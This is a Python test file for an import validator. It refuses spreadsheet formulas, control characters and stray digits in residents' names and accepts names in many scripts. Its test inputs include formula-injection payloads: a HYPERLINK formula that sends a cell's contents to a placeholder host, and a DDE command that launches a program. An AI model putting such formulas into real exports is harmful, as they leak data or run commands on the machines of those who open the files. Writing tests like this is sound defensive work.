"""Names in an imported register (issue 21): letters, the middle dot and spaces. A formula a
spreadsheet would run from an export, a control character, a row number pasted into the name:
each row refused with its reason, the others imported."""
from __future__ import annotations

from datetime import date

import pytest

from models.importing.columns import guess_mapping
from models.importing.names import NAME_CHARACTERS, NAME_FORMULA, name_fault
from models.importing.validate import PersonRow, RowChecker

TODAY = date(2020, 2, 20)
HEADERS = ["姓名", "身份证号", "联系电话", "社区", "楼栋", "单元", "门牌号"]


def _check(name: object, resident_id: str = "420102198001010116") -> tuple[PersonRow | None, list[str]]:
    checker = RowChecker(HEADERS, guess_mapping(HEADERS), TODAY)
    person, problems = checker.check(2, [name, resident_id, "", "永清社区", "1", "2", "301"])
    return person, [problem.code for problem in problems]


@pytest.mark.parametrize("name", [
    '=HYPERLINK("http://x/?"&C2,"点击")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+86张伟", "-张伟",
    "＝1+1"])
def test_a_formula_in_the_name_is_refused(name: str) -> None:
    person, codes = _check(name)
    assert person is None and codes == [NAME_FORMULA]


@pytest.mark.parametrize("name", ["居民1", "张\x07伟", "张伟\u200b", "王芳（女儿）", "李.娜", "·",
                                  4.0])
def test_anything_but_letters_dots_and_spaces_is_refused(name: object) -> None:
    person, codes = _check(name)
    assert person is None and codes == [NAME_CHARACTERS]


@pytest.mark.parametrize(("written", "kept"), [
    ("张伟", "张伟"), ("阿卜杜拉·买买提", "阿卜杜拉·买买提"), ("阿卜杜拉・买买提", "阿卜杜拉·买买提"),
    ("阿卜杜拉•买买提", "阿卜杜拉·买买提"), ("John  Smith", "John Smith"),
    ("Zoë Ångström", "Zoë Ångström"), ("ئەخمەت", "ئەخمەت")])
def test_names_of_every_script_are_accepted_and_their_dots_spelled_one_way(
        written: str, kept: str) -> None:
    person, codes = _check(written)
    assert codes == [] and person is not None
    assert person.name == kept


def test_vowel_signs_are_part_of_a_name() -> None:
    """Tibetan writes vowels as combining marks: letters and marks together are a name."""
    assert name_fault("བཀྲིས") is None
